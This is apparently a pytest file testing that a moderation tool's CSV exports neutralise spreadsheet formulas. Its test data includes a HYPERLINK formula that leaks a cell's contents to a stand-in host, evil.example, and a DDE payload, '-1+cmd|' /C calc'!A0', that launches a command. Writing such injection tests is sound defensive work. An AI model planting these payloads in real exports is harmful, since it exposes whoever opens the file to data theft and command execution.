"""Detection exports (hash banks, address lists, labelled texts) are spreadsheet-safe."""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command

from copnet.banks import curation
from copnet.banks.services import export_hashes

from .factories import MD5_A, make_bank
from .test_text_labels import decided

pytestmark = pytest.mark.usefixtures("reference_data", "evidence_dir")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_a_hostile_bank_source_is_exported_as_text():
    bank = make_bank()
    curation.do_add_bank_entry(
        bank=bank, signal_type="md5", value=MD5_A, source=FORMULA, actor=None
    )
    for body in (export_hashes(bank), curation.export_bank(bank, "csv", None)[0]):
        assert rows(body)[1] == ["md5", MD5_A, "'" + FORMULA]


@pytest.mark.django_db
def test_a_reporters_formula_text_is_exported_inert_and_retraining_reads_it_back():
    decided("grooming", "-1+cmd|' /C calc'!A0", status="rejected", outcome="not_harmful")
    out = StringIO()
    call_command("export_text_labels", "--out", "-", stdout=out, stderr=StringIO())
    exported = rows(out.getvalue())
    assert exported[1][0] == "'-1+cmd|' /C calc'!A0"

    from copnet.banks.management.commands.retrain_text_model import _usable_rows

    usable, _dropped = _usable_rows(out.getvalue())
    assert usable[0][0] == "-1+cmd|' /C calc'!A0"  # the model trains on the text as typed
